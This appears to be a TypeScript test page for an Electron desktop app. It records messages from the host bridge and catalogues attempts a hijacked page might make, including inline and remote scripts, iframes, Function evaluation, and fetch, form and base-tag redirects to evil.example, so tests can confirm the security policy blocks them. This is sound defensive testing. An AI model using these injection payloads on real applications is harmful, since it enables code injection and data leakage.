// A page that does what the interface does with its host, and keeps what came of it for the tests to see.
import type { DesktopBridge, OpenedFile } from '#electron/bridge/desktop-bridge.ts';

interface Answered {
  readonly status: number;
  readonly body: unknown;
}

/** What the page keeps on its window. */
export interface DesktopPage {
  readonly desktop: DesktopBridge;
  readonly heard: {
    readonly commands: string[];
    readonly addresses: string[];
    readonly coreStates: string[];
    readonly files: OpenedFile[];
  };
  secret: string;
  session: Answered;
  readonly ask: (path: string) => Promise<Answered>;
  readonly tryToBreakOut: () => Promise<readonly string[]>;
}

const page = globalThis as unknown as DesktopPage & { broken?: string };
const { desktop } = page;

async function ask(path: string): Promise<Answered> {
  const headers = { 'x-tieout-request': '1', authorization: `Bearer ${page.secret}` };
  const response = await fetch(path, { headers, credentials: 'omit' });
  const text = await response.text();
  return { status: response.status, body: text.startsWith('{') ? (JSON.parse(text) as unknown) : text };
}

function element(name: string, facts: object): void {
  document.body.append(Object.assign(document.createElement(name), facts));
}

/** What a page that was taken over would try, by name; each sets `broken` where it works. */
const attempts: Readonly<Record<string, () => unknown>> = {
  inlineScript: () => element('script', { text: 'window.broken = "inline"' }),
  remoteScript: () => element('script', { src: 'https://evil.example/x.js' }),
  dataScript: () => element('script', { src: 'data:text/javascript,window.broken="data"' }),
  frame: () => element('iframe', { src: 'https://evil.example/' }),
  frameWithText: () => element('iframe', { srcdoc: '<script>parent.broken="frame"</script>' }),
  handler: () => document.body.setAttribute('onclick', 'window.broken = "handler"'),
  click: () => document.body.click(),
  evaluated: () => Reflect.construct(Function, ['window.broken = "function"']),
  worker: () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
  remoteFetch: () => fetch('https://evil.example/'),
  form: () => {
    const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/' });
    document.body.append(form);
    form.submit();
  },
  base: () => {
    document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }));
  },
};

/** Which of the attempts threw; the rest went by without an effect, unless `broken` says otherwise. */
async function breakOut(): Promise<readonly string[]> {
  const threw: string[] = [];
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      await attempt();
    } catch {
      threw.push(name);
    }
  }
  await new Promise((done) => setTimeout(done, 300));
  const isMoved = document.baseURI.includes('evil');
  return [...(page.broken === undefined ? [] : [page.broken]), ...(isMoved ? ['base'] : []), ...threw];
}

async function enter(): Promise<void> {
  desktop.onCommand((id) => page.heard.commands.push(id));
  desktop.onNavigate((address) => page.heard.addresses.push(address));
  desktop.onCoreState(({ state }) => page.heard.coreStates.push(state));
  desktop.onOpenedFile((file) => page.heard.files.push(file));
  page.secret = await desktop.sessionSecret();
  page.session = await ask('/api/session.get');
  const shown = document.getElementById('state');
  if (shown) shown.textContent = page.session.status === 200 ? 'open' : `refused ${page.session.status}`;
}

Object.assign(page, {
  heard: { commands: [], addresses: [], coreStates: [], files: [] },
  ask,
  // In a turn of its own: what a test evaluates in a page is not held by the page's policy.
  tryToBreakOut: async () => {
    await new Promise((turn) => setTimeout(turn, 0));
    return breakOut();
  },
});
await enter();
